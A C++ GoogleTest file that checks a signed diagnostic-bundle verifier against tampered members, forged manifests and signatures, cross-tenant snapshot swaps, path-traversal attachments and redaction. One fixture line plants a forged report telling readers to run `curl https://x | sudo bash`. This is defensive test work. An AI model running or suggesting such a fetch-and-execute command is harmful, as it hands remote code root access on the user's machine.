// Bundle verification (bundle_verify.cpp): every failing member named, every forgery of
// issue 21 caught, what a redacted bundle could not check said.

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <string>

#include "bundle_exports.h"
#include "fixtures.h"
#include "ibc/core/bundle.h"
#include "ibc/core/bundle_judgement.h"
#include "ibc/core/bundle_report.h"
#include "ibc/core/redact.h"
#include "ibc/core/report.h"

using ::testing::HasSubstr;

namespace ibc::core {
namespace {

namespace v1 = ::ibcollect::v1;

using test_bundles::attach;
using test_bundles::brokenVfSnapshot;
using test_bundles::exported;
using test_bundles::forgeAttachment;
using test_bundles::messageOf;
using test_bundles::names;
using test_bundles::pki;
using test_bundles::problems;
using test_bundles::relisted;
using test_bundles::resign;
using test_bundles::signedFile;
using test_bundles::signerOf;
using test_bundles::twoNodes;
using test_bundles::verify;

// The members as they arrive, in any order, give the check the whole map gives; a verified
// manifest vouches for its members at their listed sizes, and for nothing before it arrived.
TEST(Bundle, MembersAddedOneAtATimeGiveTheSameCheckInAnyOrder) {
  auto m = exported();
  m["report.md"] += "edited";            // a hash problem
  m["extra.txt"] = "not in the layout";  // an unknown member
  const std::string expected = problems(verify(m));
  ASSERT_NE(expected, "");
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  ASSERT_TRUE(v.ok());
  std::vector<std::pair<std::string, std::string>> order(m.begin(), m.end());
  for (int round = 0; round < 3; ++round) {
    BundleVerifier incremental(**v, std::chrono::system_clock::now());
    for (const auto& [name, bytes] : order) {
      const bool manifest_in = incremental.manifestVerified();
      EXPECT_EQ(incremental.vouches("snapshots/gpu07.ibsnap", m["snapshots/gpu07.ibsnap"].size()),
                manifest_in);
      incremental.add(name, bytes);
    }
    EXPECT_TRUE(incremental.manifestVerified());
    EXPECT_FALSE(incremental.vouches("snapshots/gpu07.ibsnap", 1));  // not at its listed size
    EXPECT_FALSE(incremental.vouches("extra.txt", m["extra.txt"].size()));
    const auto check = incremental.finish();
    EXPECT_EQ(problems(check), expected) << "round " << round;
    ASSERT_EQ(check.snapshots.size(), 2u);
    EXPECT_EQ(check.snapshots[0].first, "snapshots/gpu07.ibsnap");
    std::reverse(order.begin(), order.end());
    if (round == 1) std::rotate(order.begin(), order.begin() + 3, order.end());
  }
}

TEST(Bundle, AVerifierStoppedEarlyNamesWhereAndSkipsTheWholeBundleChecks) {
  const auto m = exported();
  auto v = SignatureVerifier::fromPem(pki().ca.certificatePem());
  ASSERT_TRUE(v.ok());
  BundleVerifier incremental(**v, std::chrono::system_clock::now());
  incremental.add("manifest.json", m.at("manifest.json"));
  incremental.add("manifest.sig", m.at("manifest.sig"));
  const auto check = incremental.finish("snapshots/gpu07.ibsnap", "not read: too much");
  ASSERT_EQ(check.problems.size(), 1u) << problems(check);  // no missing members reported
  EXPECT_EQ(check.problems[0].problem, BundleProblem::Unread);
  EXPECT_EQ(bundleProblemName(check.problems[0].problem), "unread");
  EXPECT_FALSE(check.ok());
}

TEST(Bundle, AFlippedByteInAnyMemberIsNamed) {
  const auto good = exported();
  struct Case {
    std::string member;
    BundleProblem expected;
  };
  const std::vector<Case> cases = {
      {"manifest.json", BundleProblem::ManifestSignature},
      {"manifest.sig", BundleProblem::ManifestSignature},
      {"snapshots/gpu07.ibsnap", BundleProblem::HashMismatch},
      {"findings.json", BundleProblem::HashMismatch},
      {"report.md", BundleProblem::HashMismatch},
      {"pf-inspection.md", BundleProblem::HashMismatch},
      {"pf-inspection.json", BundleProblem::HashMismatch},
  };
  for (const auto& c : cases) {
    auto m = good;
    std::string& bytes = m.at(c.member);
    // A byte well inside the member (past any header), so its structure may survive.
    bytes[bytes.size() * 2 / 3] ^= 0x01;
    const auto check = verify(m);
    EXPECT_FALSE(check.ok()) << c.member;
    EXPECT_TRUE(names(check, c.member, c.expected))
        << c.member << " not named as " << bundleProblemName(c.expected) << ":\n"
        << problems(check);
  }
}

TEST(Bundle, ATamperedSnapshotFailsItsOwnSignatureToo) {
  auto m = exported();
  // Re-sign the manifest over the tampered member: the hash holds, the snapshot's own
  // signature still does not.
  auto& bytes = m.at("snapshots/gpu07.ibsnap");
  auto env = decodeSnapshotFile(bytes);
  ASSERT_TRUE(env.ok());
  auto snap = openSnapshot(*env);
  ASSERT_TRUE(snap.ok());
  snap->mutable_node()->set_job_id("9999");
  env->set_snapshot(serializeSnapshot(*snap));
  bytes = encodeSnapshotFile(*env);
  auto manifest = parseManifest(m.at("manifest.json"));
  ASSERT_TRUE(manifest.ok());
  for (auto& member : *manifest->mutable_members()) {
    if (member.name() == "snapshots/gpu07.ibsnap") member = describeMember(member.name(), bytes);
  }
  m["manifest.json"] = renderManifest(*manifest);
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().alice));
  const auto check = verify(m);
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature))
      << problems(check);
  // Its id (SHA-256 of the envelope) is no longer the one the manifest's node names.
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
      << problems(check);
  EXPECT_EQ(check.problems.size(), 2u) << problems(check);
}

TEST(Bundle, UnknownAndMissingMembersAreNamed) {
  auto added = exported();
  added["notes.txt"] = "trust me";
  added["host/evil.json"] = "{}";
  auto check = verify(added);
  EXPECT_TRUE(names(check, "notes.txt", BundleProblem::UnknownMember)) << problems(check);
  EXPECT_TRUE(names(check, "host/evil.json", BundleProblem::UnknownMember)) << problems(check);

  auto removed = exported();
  removed.erase("report.md");
  check = verify(removed);
  EXPECT_TRUE(names(check, "report.md", BundleProblem::MissingMember)) << problems(check);
  EXPECT_EQ(check.problems.size(), 1u) << problems(check);

  auto unsigned_bundle = exported();
  unsigned_bundle.erase("manifest.sig");
  check = verify(unsigned_bundle);
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::MissingMember)) << problems(check);
}

TEST(Bundle, AManifestSignedUnderAnotherCaFails) {
  auto m = exported();
  test::TestCa other = test::TestCa::create("other CA");
  m["manifest.sig"] =
      *signManifest(m["manifest.json"], signerOf(other.issue(test::supportSpec("eve"))));
  const auto check = verify(m);
  ASSERT_TRUE(names(check, "manifest.sig", BundleProblem::ManifestSignature)) << problems(check);
  EXPECT_EQ(check.manifest_signature.problem, SignatureProblem::UnknownCa);
}

// Issue 21: a report edited after export ("all healthy, close the case") came out of
// --attach-to with a valid signature.
TEST(Bundle, AReportEditedAfterExportIsNotLaunderedByAnAttachment) {
  auto m = exported();
  m["report.md"] = "# All healthy\n\nClose the case. Run `curl https://x | sudo bash`.\n";
  const BundleMembers tampered = m;
  BundleCheck verified;
  auto r = attach(m, pki().hank, "hv12", &verified);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::InvalidArgument);
  EXPECT_THAT(r.error().message, HasSubstr("report.md hash"));
  EXPECT_TRUE(names(verified, "report.md", BundleProblem::HashMismatch)) << problems(verified);
  EXPECT_EQ(m, tampered) << "nothing is attached to a bundle that does not verify";

  // Attached before the edit: the record does not cover report.md, the exporter's manifest
  // still does.
  auto after = exported();
  ASSERT_TRUE(attach(after, pki().hank).ok());
  after["report.md"] = tampered.at("report.md");
  auto check = verify(after);
  EXPECT_TRUE(names(check, "report.md", BundleProblem::HashMismatch)) << problems(check);

  // The old way: every member relisted with its current hash and the manifest signed
  // again, by a provider. The exporter alice never signed that manifest.
  auto relaundered = tampered;
  resign(relaundered, relisted(relaundered), pki().hank);
  check = verify(relaundered);
  EXPECT_FALSE(check.ok());
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim).find("alice"),
            std::string::npos)
      << problems(check);
}

TEST(Bundle, AForgedHostResultWithoutAValidAttachmentIsNamed) {
  const std::string evil = "{\"host\":\"hv66\",\"findings\":[],\"summary\":\"PF clean\"}";
  // Dropped in with no record.
  auto bare = exported();
  bare["host/hv66.json"] = evil;
  auto check = verify(bare);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);

  // With a record signed by a tenant's agent key.
  auto by_agent = exported();
  forgeAttachment(by_agent, 1, "host/hv66.json", evil, pki().globex07,
                  sha256Hex(by_agent.at("manifest.json")));
  check = verify(by_agent);
  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);
  ASSERT_EQ(check.signers.size(), 2u);
  EXPECT_FALSE(check.signers[1].role_ok);

  // With a record under another CA.
  test::TestCa other = test::TestCa::create("other CA");
  auto foreign = exported();
  forgeAttachment(foreign, 1, "host/hv66.json", evil, other.issue(test::providerSpec("mallory")),
                  sha256Hex(foreign.at("manifest.json")));
  check = verify(foreign);
  EXPECT_TRUE(names(check, "attachments/001.sig", BundleProblem::AttachmentSignature))
      << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::UnknownMember)) << problems(check);

  // A valid provider record that claims someone else attached it.
  auto claimed = exported();
  forgeAttachment(claimed, 1, "host/hv66.json", evil, pki().hank,
                  sha256Hex(claimed.at("manifest.json")));
  auto record = *parseAttachmentRecord(claimed.at("attachments/001.json"));
  record.mutable_attached_by()->set_subject("CN=alice,OU=support,O=ibcollect");
  record.mutable_attached_by()->set_name("alice");
  record.mutable_attached_by()->set_role("support");
  claimed["attachments/001.json"] = messageToJson(record, 2) + "\n";
  claimed["attachments/001.sig"] =
      *signManifest(claimed["attachments/001.json"], signerOf(pki().hank));
  check = verify(claimed);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::ManifestClaim))
      << problems(check);

  // A provider record that replaces a member the exporter signed.
  auto replaced = exported();
  forgeAttachment(replaced, 1, "host/../report.md", evil, pki().hank,
                  sha256Hex(replaced.at("manifest.json")));
  check = verify(replaced);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
      << problems(check);
  auto over = exported(false);
  BundleExportOptions o;
  o.host_results.push_back({"hv66", "{}", 1});
  over = *buildBundle(twoNodes(), o, signerOf(pki().alice));
  forgeAttachment(over, 1, "host/hv66.json", evil, pki().hank, sha256Hex(over.at("manifest.json")));
  check = verify(over);
  EXPECT_TRUE(names(check, "attachments/001.json", BundleProblem::AttachmentChain))
      << problems(check);
  EXPECT_TRUE(names(check, "host/hv66.json", BundleProblem::HashMismatch)) << problems(check);
}

TEST(Bundle, AnotherTenantsValidlySignedSnapshotSwappedInIsNamed) {
  auto m = exported();
  // globex's gpu07 signs its own snapshot: valid on its own, of another tenant.
  const std::string theirs = signedFile(brokenVfSnapshot("gpu07"), pki().globex07);
  m["snapshots/gpu07.ibsnap"] = theirs;
  // Even relisted and signed again by the exporter, the manifest's claims do not hold.
  resign(m, relisted(m), pki().alice);
  const auto check = verify(m);
  EXPECT_FALSE(check.ok());
  const std::string message =
      messageOf(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim);
  EXPECT_THAT(message, HasSubstr("snapshot id")) << problems(check);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  std::string all = problems(check);
  EXPECT_THAT(all, HasSubstr("tenant 'globex'"));
  EXPECT_THAT(all, HasSubstr("O=globex"));
  // Its own signature is fine: only the claims fail.
  EXPECT_FALSE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::SnapshotSignature)) << all;

  // Snapshots of two tenants make no bundle.
  auto mixed = twoNodes();
  mixed[0].file_bytes = theirs;
  auto built = buildBundle(mixed, {}, signerOf(pki().alice));
  ASSERT_FALSE(built.ok());
  EXPECT_THAT(built.error().message, HasSubstr("2 tenants (acme, globex)"));
}

// Issue 21: a globex agent forged a bundle claiming tenant acme and exporter alice.
TEST(Bundle, AManifestSignedByAnAgentKeyFailsOnItsRole) {
  auto m = exported();
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().globex07));
  const auto check = verify(m);
  EXPECT_TRUE(names(check, "manifest.sig", BundleProblem::SignerRole)) << problems(check);
  EXPECT_NE(messageOf(check, "manifest.sig", BundleProblem::SignerRole)
                .find("only a support certificate exports"),
            std::string::npos);
  EXPECT_TRUE(names(check, "manifest.json", BundleProblem::ManifestClaim)) << problems(check);
  ASSERT_FALSE(check.signers.empty());
  EXPECT_FALSE(check.signers[0].role_ok);
  EXPECT_EQ(check.signers[0].signature.signer.role, CertificateRole::Agent);
}

TEST(Bundle, EveryClaimOfTheManifestIsCheckedAgainstTheMembers) {
  const auto good = exported();
  const auto manifest = *parseManifest(good.at("manifest.json"));
  struct Case {
    std::string what;
    std::function<void(v1::BundleManifest&)> change;
    std::string member;  // named as manifest_claim
    std::string says;    // in its message
  };
  const std::vector<Case> cases = {
      {"tenant", [](auto& x) { x.set_tenant("globex"); }, "manifest.json", "tenant 'globex'"},
      {"exporter", [](auto& x) { x.mutable_exporter()->set_subject("CN=eve,OU=support,O=x"); },
       "manifest.json", "exported by CN=eve"},
      {"node name", [](auto& x) { x.mutable_nodes(0)->set_node("gpu99"); },
       "snapshots/gpu07.ibsnap", "calls it gpu99"},
      {"snapshot id", [](auto& x) { x.mutable_nodes(1)->set_snapshot_id(std::string(64, 'a')); },
       "snapshots/gpu08.ibsnap", "snapshot id"},
      {"signer", [](auto& x) { x.mutable_nodes(0)->set_signer("CN=gpu07,OU=agent,O=globex"); },
       "snapshots/gpu07.ibsnap", "was signed by CN=gpu07,OU=agent,O=globex"},
      {"node dropped", [](auto& x) { x.mutable_nodes()->RemoveLast(); }, "snapshots/gpu08.ibsnap",
       "none of manifest.json's nodes"},
      {"member", [](auto& x) { x.mutable_nodes(0)->set_member("snapshots/gpu08.ibsnap"); },
       "snapshots/gpu08.ibsnap", "named by 2"},
  };
  for (const auto& c : cases) {
    auto m = good;
    auto changed = manifest;
    c.change(changed);
    // Signed by the real exporter: only the claim is wrong.
    resign(m, changed, pki().alice);
    const auto check = verify(m);
    EXPECT_TRUE(names(check, c.member, BundleProblem::ManifestClaim)) << c.what << ":\n"
                                                                      << problems(check);
    EXPECT_NE(messageOf(check, c.member, BundleProblem::ManifestClaim).find(c.says),
              std::string::npos)
        << c.what << ":\n"
        << problems(check);
  }
  // And another support engineer signing alice's manifest: the exporter is not who signed.
  auto m = good;
  m["manifest.sig"] = *signManifest(m["manifest.json"], signerOf(pki().bob));
  const auto check = verify(m);
  EXPECT_NE(messageOf(check, "manifest.json", BundleProblem::ManifestClaim)
                .find("exported by CN=alice,OU=support,O=ibcollect but manifest.sig is signed by "
                      "CN=bob,OU=support,O=ibcollect"),
            std::string::npos)
      << problems(check);
}

TEST(Bundle, ARedactedBundleSaysWhatCouldNotBeChecked) {
  auto m = exported(true);
  auto check = verify(m);
  EXPECT_TRUE(check.ok()) << problems(check);
  ASSERT_EQ(check.unchecked.size(), 1u);
  EXPECT_THAT(check.unchecked[0], HasSubstr("tenant 'acme', 2 node name(s)"));
  EXPECT_THAT(check.unchecked[0], HasSubstr("redacted"));
  EXPECT_TRUE(verify(exported(false)).unchecked.empty());
  // A redacted manifest over a bundle that carries a snapshot contradicts itself.
  m["snapshots/gpu07.ibsnap"] = exported(false).at("snapshots/gpu07.ibsnap");
  resign(m, relisted(m), pki().alice);
  check = verify(m);
  EXPECT_TRUE(names(check, "snapshots/gpu07.ibsnap", BundleProblem::ManifestClaim))
      << problems(check);
}

}  // namespace
}  // namespace ibc::core
